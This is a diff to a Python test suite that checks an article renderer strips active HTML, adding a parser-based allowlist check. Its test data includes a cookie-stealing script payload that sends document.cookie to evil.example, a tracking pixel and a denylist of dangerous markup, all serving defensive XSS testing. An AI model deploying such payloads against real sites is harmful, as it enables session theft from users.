@@ -3,6 +3,8 @@
 The import checks the same rules the builder does; rendering strips what a rule might miss.
 """
 
+from html.parser import HTMLParser
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -16,6 +18,26 @@ from commsdesk.library.articles import render
 from commsdesk.storage.errors import VaultError
 
 KEY = generate_signing_key()
+SAFE_TAGS = {"p", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "b", "i", "blockquote", "code",
+             "pre", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}
+
+
+class _Markup(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.active: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag not in SAFE_TAGS or any(name != "id" or tag not in ("h2", "h3", "h4") for name, _ in attrs):
+            self.active.append(f"<{tag} {attrs}>")
+
+
+def active_markup(html: str) -> list[str]:
+    """Tags or attributes in rendered HTML that could run, load or link anything."""
+    parser = _Markup()
+    parser.feed(html)
+    parser.close()
+    return parser.active
 HOSTILE_BODIES = [
     "<script>fetch('https://evil.example/?'+document.cookie)</script>",
     '<img src="https://evil.example/pixel.png">',
@@ -44,6 +66,7 @@ def test_a_signed_pack_with_a_hostile_article_is_rejected_on_import(body):
 @pytest.mark.parametrize("body", HOSTILE_BODIES)
 def test_a_hostile_article_renders_harmless_even_if_a_rule_missed_it(body):
     html = render_article(body).lower()
+    assert active_markup(html) == []
     for bad in ("<script", "<img", "<iframe", "<style", "<svg", "<object", "<a", "href", "src=",
                 "onclick", "style=", "javascript:", "evil.example/pixel", "url("):
         assert bad not in html, (bad, html)
@@ -51,6 +74,7 @@ def test_a_hostile_article_renders_harmless_even_if_a_rule_missed_it(body):
 
 def test_the_library_renderer_alone_keeps_web_links_which_is_why_packs_use_their_own():
     assert 'href="https://evil.example/"' in render("[нажми](https://evil.example/)")
+    assert active_markup(render("[нажми](https://evil.example/)")) == ["<a [('href', 'https://evil.example/')]>"]
     assert "href" not in render_article("[нажми](https://evil.example/)")
     assert "<script" not in render("<script>alert(1)</script>") and "<img" not in render("![](x.png)")
 
@@ -110,12 +134,10 @@ def test_any_article_text_is_accepted_only_when_it_renders_harmless(body, title,
     except VaultError as exc:
         assert exc.user_message()
         return
-    html = render_article(pack.articles[0].body).lower()
-    assert "<script" not in html and "<img" not in html and "href" not in html and "src=" not in html
+    assert active_markup(render_article(pack.articles[0].body)) == []
 
 
 @settings(max_examples=150, deadline=None)
 @given(st.text(alphabet="<>![]()/:ajvscriptAJVSCRIPT =\"'\n#{}`&;.", max_size=60))
 def test_markup_soup_never_renders_active_content(body):
-    html = render_article(body).lower()
-    assert "<script" not in html and "<a " not in html and "href" not in html and "src=" not in html
+    assert active_markup(render_article(body)) == []
